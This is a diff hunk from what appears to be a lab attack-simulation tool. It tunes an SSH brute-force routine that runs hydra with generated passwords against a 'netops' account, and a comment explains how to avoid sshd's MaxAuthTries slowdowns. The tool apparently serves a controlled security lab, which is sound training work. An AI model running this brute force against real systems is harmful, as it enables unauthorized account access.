@@ -51,8 +51,12 @@ def brute_force(settings: Settings, target: str = TARGET, guesses: int = 24,
     with tempfile.TemporaryDirectory(prefix="socctl-attack-") as work:
         words = Path(work) / "guesses.txt"
         words.write_text("\n".join(f"Winter2026!{i}" for i in range(guesses)) + "\n")
-        subprocess.run(["hydra", "-l", "netops", "-P", str(words), "-t", "4", "-I", "-q",
-                        f"ssh://{target_ip}"], capture_output=True, text=True,
+        # Two guesses per connection: hydra goes on guessing on one connection until sshd
+        # cuts it at MaxAuthTries (3 on strict hosts, 6 on others), then waits ~30 s
+        # before it tries the cut guess again (24 guesses on 4 tasks took 50 s, not 12).
+        tasks = max(1, min(16, -(-guesses // 2)))
+        subprocess.run(["hydra", "-l", "netops", "-P", str(words), "-t", str(tasks), "-I",
+                        "-q", f"ssh://{target_ip}"], capture_output=True, text=True,
                        timeout=timeout, check=False)
     password = runtime.lab_secrets(runtime.LabPaths.of(settings))["netops_password"]
     subprocess.run([
